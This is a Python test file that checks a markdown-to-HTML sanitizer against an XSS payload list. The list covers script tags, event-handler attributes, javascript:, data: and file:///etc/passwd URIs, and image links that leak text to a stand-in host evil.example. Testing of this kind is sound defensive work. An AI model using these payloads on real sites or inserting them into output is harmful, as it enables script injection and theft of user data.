"""No text from a model or a file becomes anything but harmless HTML, whole or token by token."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from onglet.browser import safe
from onglet_build.places import WEB

PAYLOADS = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
<iframe src="https://evil.example"></iframe>
<a href="javascript:alert(1)">x</a>
<style>*{background:url(https://evil.example)}</style>
<math><mtext></p><img src onerror=alert(1)>
<base href="https://evil.example/">
<form action=https://evil.example><input name=q></form>
<meta http-equiv=refresh content="0;url=https://evil.example">
<object data="data:text/html,<script>alert(1)</script>"></object>
<template><script>alert(1)</script></template>
<!-- <script>alert(1)</script> -->
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](//evil.example/x)
[x](/a/b?leak=1)
[x](#fragment)
[x](https://evil.example/" onmouseover="alert(1))
[x](<https://evil.example/"onclick=alert(1)>)
[x](https://evil.example 'title" onclick="alert(1)')
![x](https://evil.example/leak.png?text=secret)
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x](javascript:alert(1))
[![x](https://evil.example/1.png)](https://evil.example/2)
![![x](https://evil.example/1.png)](https://evil.example/2.png)
<https://evil.example/a?b=c>
<javascript:alert(1)>
[ref]\n\n[ref]: javascript:alert(1)
[ref]\n\n[ref]: https://evil.example/ref "t"
```html onload=alert(1)\n<script>alert(1)</script>\n```
```"><script>alert(1)</script>\ncode\n```
    <script>alert(1)</script>
`<script>alert(1)</script>`
| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
- <script>\n- alert(1)\n- </script>
> <iframe src=https://evil.example>
# <img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)
\\<script>alert(1)</script>
**<b onclick=alert(1)>**
\u202e<script>\u0000alert(1)</script>
""".strip().splitlines()
PAYLOADS = [payload.replace("\\n", "\n") for payload in PAYLOADS]


class Watcher(HTMLParser):
    """Fails on each tag, attribute or address that is not in the tables of safe.py."""

    def handle_starttag(self, tag, attributes):
        assert tag in safe.TAGS, tag
        for name, value in attributes:
            assert name in safe.ATTRIBUTES.get(tag, ()), (tag, name)
            assert name != "href" or re.match(r"(https?://|mailto:)", value, re.IGNORECASE), value
            assert name != "style" or safe.ALIGNMENT.fullmatch(value), value

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def watch(html: str) -> None:
    watcher = Watcher()
    watcher.feed(html)
    watcher.close()


def growing(text: str):
    """The blocks after each character, as the page would hold them."""
    flow, held = safe.Flow(), []
    for character in text:
        flow.add(character)
        update = flow.update()
        held[update.start :] = update.blocks
        yield held
    held[:] = flow.finish().blocks
    yield held


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless(payload):
    watch(safe.markdown(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless_token_by_token(payload):
    for blocks in growing(payload):
        for block in blocks:
            watch(block)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_inside_others_is_harmless(payload):
    for frame in (
        "> - {}",
        "1. **{}**",
        "| a |\n|---|\n| {} |",
        "[{}](https://ok.example)",
        "~~{}~~",
    ):
        watch(safe.markdown(frame.format(payload)))


@settings(deadline=None)
@given(st.lists(st.sampled_from([*PAYLOADS, "\n", "\n\n", " ", "**", "`", "```", "- ", "> "])))
def test_any_mixture_is_harmless(pieces):
    watch(safe.markdown("".join(pieces)))


def test_an_image_becomes_a_link_with_its_address():
    html = safe.markdown("![a cat](https://evil.example/cat.png)")
    assert "<img" not in html
    assert 'href="https://evil.example/cat.png"' in html
    assert "[a cat]" in html
    assert "(https://evil.example/cat.png)" in html


def test_a_link_shows_its_address_even_if_its_text_looks_like_one():
    html = safe.markdown("[https://bank.example](https://evil.example/)")
    assert "(https://evil.example/)" in html
    assert "(https://evil.example/)" in safe.markdown("[example/](https://evil.example/)")


def test_a_bare_address_is_not_said_twice():
    assert "address" not in safe.markdown("<https://ok.example/a>")
    assert "address" not in safe.markdown("<someone@ok.example>")


def test_ordinary_markdown_is_drawn():
    html = safe.markdown("# T\n\n1. *a*\n2. **b**\n\n```python\nx < 1\n```\n\n|a|\n|:-|\n|1|")
    for part in ("<h1>T</h1>", "<ol>", "<em>a</em>", 'data-language="python"', "x &lt; 1", "<td"):
        assert part in html


TEXTS = st.lists(
    st.sampled_from(
        [
            "word ",
            "\n",
            "\n\n",
            "# ",
            "- ",
            "1. ",
            "> ",
            "```\n",
            "    ",
            "**",
            "a | b\n",
            "|-|-|\n",
            "---\n",
        ]
    ),
    max_size=30,
).map("".join)


@settings(deadline=None)
@given(TEXTS)
def test_a_grown_text_ends_as_the_whole_text(text):
    *_, last = [[], *growing(text)]
    assert last == safe.blocks(text)


@settings(deadline=None)
@given(TEXTS)
def test_finished_blocks_are_those_of_the_whole_text(text):
    flow, held = safe.Flow(), []
    for character in text:
        flow.add(character)
        update = flow.update()
        held[update.start :] = update.blocks
    assert held == safe.blocks(text)


def test_both_walls_have_the_same_table():
    table = re.search(
        r"ATTRIBUTES = \{(.*?)\};", (WEB / "components" / "safe.js").read_text(), re.DOTALL
    )
    rows = re.findall(r"(\w+): \[(.*?)\]", table[1])
    found = {tag: set(re.findall(r'"([\w-]+)"', names)) for tag, names in rows}
    assert found == {tag: safe.ATTRIBUTES.get(tag, set()) for tag in safe.TAGS}
